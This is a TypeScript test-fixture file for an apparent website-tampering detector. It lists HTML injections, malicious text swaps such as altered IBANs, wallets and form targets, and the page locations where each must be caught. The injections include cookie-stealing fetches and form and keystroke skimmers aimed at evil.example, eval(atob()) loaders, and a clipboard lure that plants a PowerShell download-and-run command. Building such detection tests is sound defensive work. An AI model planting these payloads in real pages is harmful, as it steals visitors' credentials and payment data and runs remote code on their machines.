/** What attackers insert into pages, as raw HTML; each must be found at every location. */
export const injections: Record<string, string> = {
  script: '<script src="https://cdn.evil.example/x.js"></script>',
  "script named analytics": '<script async src="https://stats-cdn.example/analytics.js"></script>',
  "script named pixel": '<script src="//px.metrics-tag.example/pixel.js?id=1"></script>',
  "script beside a vendor":
    '<script src="https://www.googletagmanager.com.tags.example/gtag/js?id=G-1"></script>',
  "script like a vendor": '<script src="https://www.google-analytlcs.com/ga.js"></script>',
  "script with a vendor as user":
    '<script src="https://www.googletagmanager.com@evil.example/gtag.js"></script>',
  "script with a vendor in the path":
    '<script src="https://evil.example/www.googletagmanager.com/gtag/js"></script>',
  "script on an open cdn": '<script src="https://cdn.jsdelivr.net/gh/someone/kit@1/k.js"></script>',
  "script in a bucket": '<script src="https://s3.amazonaws.com/kit-assets/k.js"></script>',
  "script by address": '<script src="http://203.0.113.9/k.js"></script>',
  "script from a callback":
    '<script src="https://accounts.google.com/o/oauth2/revoke?callback=eval(atob(%27YWxlcnQoMSk%27))"></script>',
  "script of a container": '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-EV1L99X"></script>',
  "script as data": '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>',
  "script as module": '<script type="module">import "https://esm.evil.example/x.js";</script>',
  "script by import map":
    '<script type="importmap">{"imports":{"app":"https://esm.evil.example/x.js"}}</script>',
  "script preloaded": '<link rel="modulepreload" href="https://esm.evil.example/x.js">',
  "script in svg": '<svg width="0" height="0"><script href="https://cdn.evil.example/s.js"></script></svg>',
  "svg onload": `<svg onload="fetch('https://evil.example/?'+document.cookie)"></svg>`,
  skimmer:
    '<script>document.addEventListener("submit",function(e){navigator.sendBeacon("https://evil.example/c",new FormData(e.target))},true)</script>',
  "skimmer without a host":
    '<script>document.querySelectorAll("input").forEach(function(i){i.addEventListener("change",function(){(new Image).src=["//ev","il.exam","ple/?"].join("")+i.value})})</script>',
  "skimmer among analytics":
    '<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}document.addEventListener("keyup",function(e){navigator.sendBeacon("/collect",e.key)});gtag("js",new Date());</script>',
  "packed script": '<script>eval(atob("YWxlcnQoMSk="))</script>',
  "packed data layer": '<script>dataLayer=[];window["ev"+"al"](window["at"+"ob"]("YWxlcnQoMSk="))</script>',
  "script that loads":
    '<script>var s=document.createElement("script");s.src="//"+"evil.example"+"/x.js";document.head.appendChild(s)</script>',
  "script that a helper loads": '<script>$.getScript("https://cdn.evil.example/x.js")</script>',
  "script that leads away": '<script>location.href="https://evil.example/"</script>',
  "script that leads away in time":
    '<script>setTimeout(function(){window.location.replace("/verify")},3000)</script>',
  "script that writes": `<script>document.write('<scr'+'ipt src=//evil.example/x.js></scr'+'ipt>')</script>`,
  frame: '<iframe src="https://landing.example/"></iframe>',
  "frame hidden": '<iframe src="https://landing.example/" style="display:none" width="0"></iframe>',
  "frame of markup": '<iframe srcdoc="&lt;script src=https://evil.example/x.js&gt;&lt;/script&gt;"></iframe>',
  "frame of code": `<iframe src="javascript:fetch('//evil.example')"></iframe>`,
  embed: '<embed src="https://evil.example/x.swf">',
  object: '<object data="https://evil.example/x.html"></object>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://promo.example/">',
  "refresh without url": '<meta http-equiv="Refresh" content="5; https://promo.example/">',
  base: '<base href="https://mirror.example/">',
  "form elsewhere":
    '<form action="https://collect.example/in" method="post"><input name="card"><button>Pay</button></form>',
  "form for a password": '<form action="/x" method="post"><input type="password" name="pw"></form>',
  "button elsewhere": '<form action="/s"><button formaction="https://collect.example/in">Go</button></form>',
  handler: `<img src="/pixel.gif" onerror="fetch('https://evil.example/'+document.cookie)">`,
  "handler without a host": '<div onmouseover="eval(name)"></div>',
  "script link": '<a href="javascript:eval(atob(1))">Help</a>',
  "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">Help</a>',
  link: '<a href="https://lucky.example/">Partner offers</a>',
  "link hidden": '<div style="display:none"><a href="https://backlinks.example/a">gardening shears</a></div>',
  "link off the page":
    '<div style="position:absolute;left:-9999px"><a href="https://slots.example/">plumbers</a></div>',
  "link too small": '<span style="font-size:0"><a href="https://pills.example/">cheap watches</a></span>',
  "link transparent": '<div style="opacity:0"><a href="https://pills.example/">garden tools</a></div>',
  "link hidden by a class":
    '<style>.zq{position:absolute;clip:rect(0,0,0,0)}</style><p class="zq"><a href="https://pills.example/">garden tools</a></p>',
  "link without text": '<a href="https://pills.example/"></a>',
  "link around a picture": '<a href="https://pills.example/"><img src="/a.png" alt="offer"></a>',
  "spam without links":
    '<div style="display:none">Best online casino, slots and poker bonus without deposit. Buy cheap viagra online pharmacy.</div>',
  "spam off the page":
    '<div style="position:absolute;top:-5000px">Payday loans today, replica handbags, escorts in town, essay writing service.</div>',
  "style sheet": '<link rel="stylesheet" href="https://styles.evil.example/x.css">',
  "style sheet imported": '<style>@import url("https://styles.evil.example/x.css");</style>',
  "style that reads fields": '<style>input[value^="a"]{background:url(https://leak.evil.example/a)}</style>',
  "script preloaded as a script": '<link rel="preload" as="script" href="https://cdn.evil.example/x.js">',
  "service worker": '<script>navigator.serviceWorker.register("/sw.js?"+Date.now())</script>',
  "link that pings": '<a href="/help" ping="https://count.evil.example/">Help</a>',
  "canonical elsewhere": '<link rel="canonical" href="https://clone.evil.example/">',
  "refresh without scripts":
    '<noscript><meta http-equiv="refresh" content="0;url=https://promo.example/"></noscript>',
  "password field alone": '<input type="password" id="p"><button>Continue</button>',
  "password form elsewhere":
    '<form action="https://login.evil.example/" method="post"><input type="password"></form>',
  lure: "<h2>Verify you are human</h2><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol>",
  "command on the clipboard":
    '<script>document.onclick=function(){navigator.clipboard.writeText("powershell -w h -c iex(irm x.example)")}</script>',
  defacement: "<h1>Hacked by Paper Tigers</h1>",
};

/** Small edits of the text, before and after; each must be found at every location. */
export const smallEdits: Record<string, [before: string, after: string]> = {
  phone: ["<p>Call +49 30 1234567</p>", "<p>Call +49 30 7654321</p>"],
  "phone unspaced": ["<p>Hotline +49301234567</p>", "<p>Hotline +49307654321</p>"],
  iban: ["<p>IBAN DE89 3704 0044 0532 0130 00</p>", "<p>IBAN GB29 NWBK 6016 1331 9268 19</p>"],
  "iban unspaced": ["<p>DE89370400440532013000</p>", "<p>DE12500105170648489890</p>"],
  account: ["<p>Account no. 1234567890</p>", "<p>Account no. 9876543210</p>"],
  wallet: ["<p>1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa</p>", "<p>1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>"],
  "wallet with a label": [
    "<p>BTC: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</p>",
    "<p>BTC: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6a</p>",
  ],
  "wallet of ether": [
    "<p>0x742d35Cc6634C0532925a3b844Bc454e4438f44e</p>",
    "<p>0x53d284357ec70cE289D6D64134DfAc8E511c8a3D</p>",
  ],
  mail: ["<p>Write to help@house.test</p>", "<p>Write to help@hause.test</p>"],
  "mail link": [
    '<p><a href="mailto:help@house.test">Write</a></p>',
    '<p><a href="mailto:help@evil.example">Write</a></p>',
  ],
  "phone link": [
    '<p><a href="tel:+49301234567">Call us</a></p>',
    '<p><a href="tel:+49307654321">Call us</a></p>',
  ],
  "link host": [
    '<p><a href="https://pay.house.test/in">Pay</a></p>',
    '<p><a href="https://pay.hause.example/in">Pay</a></p>',
  ],
  "link brand": [
    '<p><a href="https://bank.example/login">Sign in to the bank</a></p>',
    '<p><a href="https://bank.example.co/login">Sign in to the bank</a></p>',
  ],
  "form target": [
    '<form action="/pay" method="post"><input name="n"></form>',
    '<form action="https://pay.evil.example/" method="post"><input name="n"></form>',
  ],
  "frame source": [
    '<iframe src="https://player.house.test/1"></iframe>',
    '<iframe src="https://player.evil.example/1"></iframe>',
  ],
  "script source": [
    '<script src="/kit.js"></script>',
    '<script src="https://cdn.evil.example/kit.js"></script>',
  ],
};

/** Small edits that must be found in the content; outside it, dates, versions and numbers change by themselves. */
export const contentEdits: Record<string, [before: string, after: string]> = {
  price: ["<p>Monthly fee: 49.00 €</p>", "<p>Monthly fee: 94.00 €</p>"],
  date: ["<p>Apply before 12 March 2026</p>", "<p>Apply before 12 April 2026</p>"],
  version: ["<p>Release 4.2.1</p>", "<p>Release 4.2.2</p>"],
  number: ["<p>The notice period is 30 days</p>", "<p>The notice period is 90 days</p>"],
  percent: ["<p>Interest 4 %</p>", "<p>Interest 9 %</p>"],
  hours: ["<p>Open 9:00 - 17:00</p>", "<p>Open 9:00 - 15:00</p>"],
  word: ["<p>We may share data</p>", "<p>We will share data</p>"],
  checksum: ["<p>MD5 9e107d9d372bb6826bd81d3542a419d6</p>", "<p>MD5 e4d909c290d0fb1ca068ffaddf22cbd0</p>"],
};

/** The locations on a page where they are inserted; most of them change by themselves. */
export const places: Record<string, [opening: string, closing: string]> = {
  content: ["<main><p>", "</p></main>"],
  body: ["", ""],
  advertisement: ['<div class="ad-slot" id="ad-1">', "</div>"],
  carousel: ['<div class="testimonial-slider">', "</div>"],
  recommendations: ['<div class="related-products"><h3>You may also like</h3>', "</div>"],
  consent: [
    '<div id="onetrust-banner-sdk"><p>We use cookies</p><button>Accept all cookies</button>',
    "</div>",
  ],
  "consent without a name": [
    '<div class="fixed"><p>We use cookies and value your privacy</p><button>Accept all cookies</button>',
    "</div>",
  ],
  chat: ['<div id="intercom-container">', "</div>"],
  dialogue: ['<div role="dialog" class="modal">', "</div>"],
  header: ["<header>", "</header>"],
  menu: ["<nav><ul><li>", "</li></ul></nav>"],
  footer: ["<footer>", "</footer>"],
  aside: ["<aside>", "</aside>"],
  "live region": ['<div aria-live="polite">', "</div>"],
  comments: ['<section id="comments"><h3>12 comments</h3>', "</section>"],
  hidden: ['<div style="display:none">', "</div>"],
  counter: ['<div class="stats"><p>1200 views</p>', "</div>"],
};

/** Locations that hold content, where nothing changes by itself. */
export const standing = new Set(["content", "body", "comments"]);
